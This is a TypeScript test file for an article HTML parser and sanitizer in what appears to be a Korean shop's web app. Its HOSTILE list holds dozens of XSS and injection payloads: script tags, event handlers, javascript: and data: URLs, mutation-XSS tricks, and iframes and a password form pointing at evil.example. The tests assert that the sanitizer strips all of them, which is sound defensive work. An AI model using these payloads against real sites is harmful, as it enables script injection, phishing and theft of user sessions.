import { LINK_PATTERN } from '@vitis/contracts';
import { sanitizeArticle } from '../../db/rich-text.ts';
import { articleBlocks, picturesIn } from './article-blocks.ts';
import { readingMinutes } from './reading-minutes.ts';

const image =
  '<img src="/files/seed/scenes/a1-1280.webp" srcset="/files/seed/scenes/a1-1280.webp 1280w, /files/seed/scenes/a1-320.webp 320w" width="1280" height="853" alt="병">';

test('an article becomes headings, paragraphs, quotations, lists and pictures, in their order', () => {
  const html = `
    <h2>밭과 &amp; 돌</h2>
    <p>비탈은 <strong>남동쪽</strong>을 <em>보고</em>,<br>
       <a href="/product?idKinds=1">레드</a>가 납니다.</p>
    <blockquote><p>돌이 맛을 만듭니다.</p><cite>양조 책임자</cite></blockquote>
    <ol><li>먼저 <b>식힙니다</b></li><li></li><li>따릅니다</li></ol>
    <figure>${image}<figcaption>지하 저장고</figcaption></figure>`;
  const picture = {
    base: '/files/seed/scenes/a1',
    widths: [320, 1280],
    width: 1280,
    height: 853,
    alt: '병',
  };
  expect(articleBlocks(html)).toEqual([
    { type: 'heading', level: 2, text: '밭과 & 돌' },
    {
      type: 'paragraph',
      line: [
        { text: '비탈은 ' },
        { text: '남동쪽', strong: true },
        { text: '을 ' },
        { text: '보고', emphasis: true },
        { text: ',\n' },
        { text: '레드', href: '/product?idKinds=1' },
        { text: '가 납니다.' },
      ],
    },
    { type: 'quote', line: [{ text: '돌이 맛을 만듭니다.' }], source: '양조 책임자' },
    {
      type: 'list',
      ordered: true,
      items: [[{ text: '먼저 ' }, { text: '식힙니다', strong: true }], [{ text: '따릅니다' }]],
    },
    { type: 'picture', picture, caption: '지하 저장고' },
  ]);
  expect(picturesIn(html)).toEqual([picture]);
});

/** Ways in which HTML has run scripts somewhere, or brought what is not the shop's. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a-320.webp" onload="alert(1)" width="1" height="1">',
  '<img src="https://evil.example/a-320.webp" width="1" height="1">',
  '<img src="//evil.example/files/a-320.webp" width="1" height="1">',
  '<img src="/files/private/a-320.webp" width="1" height="1">',
  '<img src="/files/../api/v1/b2b/me-1.webp" width="1" height="1">',
  '<img src="/files/a-320.webp" srcset="https://evil.example/b-320.webp 320w" width="1" height="1">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" width="1" height="1">',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>글</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>로그인</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0" class="overlay" id="main">글</p>',
  '<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="javascript:alert(1)">글</a>',
  '<a href=" jav&#x09;ascript:alert(1)">글</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">글</a>',
  '<a href="data:text/html,<script>alert(1)</script>">글</a>',
  '<a href="vbscript:msgbox(1)">글</a>',
  '<a href="//evil.example">글</a>',
  '<a href="/\\evil.example">글</a>',
  '<a href="http://evil.example">글</a>',
  '<a href="/product" onclick="alert(1)" onmouseover=alert(1) target="_top">글</a>',
  '<p onclick="alert(1)">글</p><details open ontoggle=alert(1)>글</details>',
  '<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  `${'<blockquote><div>'.repeat(5_000)}글${'</div></blockquote>'.repeat(5_000)}`,
];

test.each(HOSTILE)('nothing of %.70j runs, leads away or is laid out', (html) => {
  const clean = sanitizeArticle(html);
  expect(clean).not.toMatch(
    /<\s*(?:script|style|iframe|object|embed|svg|math|form|input|link|meta|base|template)/i,
  );
  expect(clean).not.toMatch(/<[^>]*\s(?:on\w+|style|class|id|srcdoc|target)\s*=/i);
  expect(clean).not.toMatch(/evil\.example\/(?:a|b)-/);
  // What was cleaned once is as clean as it gets.
  expect(sanitizeArticle(clean)).toBe(clean);

  for (const stored of [html, clean]) {
    const blocks = articleBlocks(stored);
    const runs = blocks.flatMap((block) =>
      block.type === 'list' ? block.items.flat() : 'line' in block ? block.line : [],
    );
    for (const { href } of runs) if (href !== undefined) expect(href).toMatch(LINK_PATTERN);
    for (const { base } of picturesIn(stored)) expect(base).toMatch(/^\/files\/(?!private)[\w/-]+$/);
    expect(JSON.stringify(blocks)).not.toMatch(/"href":"(?:javascript|data|vbscript|http:|\/[/\\\\])/i);
  }
});

test('words survive the markup that they stood in', () => {
  expect(articleBlocks('<section><h1>제목</h1><font color="red">본문</font> 끝</section>')).toEqual([
    { type: 'heading', level: 2, text: '제목' },
    { type: 'paragraph', line: [{ text: '본문 끝' }] },
  ]);
  expect(articleBlocks('<p> </p><figure><figcaption>그림 없는 설명</figcaption></figure>')).toEqual([
    { type: 'paragraph', line: [{ text: '그림 없는 설명' }] },
  ]);
});

test('reading takes its time by letters in Korean and by words in English, and never none', () => {
  const paragraph = (text: string) => articleBlocks(`<p>${text}</p>`);
  expect(readingMinutes([], 'ko-KR')).toBe(1);
  expect(readingMinutes(paragraph('가나다라 '.repeat(450)), 'ko-KR')).toBe(4);
  expect(readingMinutes(paragraph('word '.repeat(660)), 'en-US')).toBe(3);
});
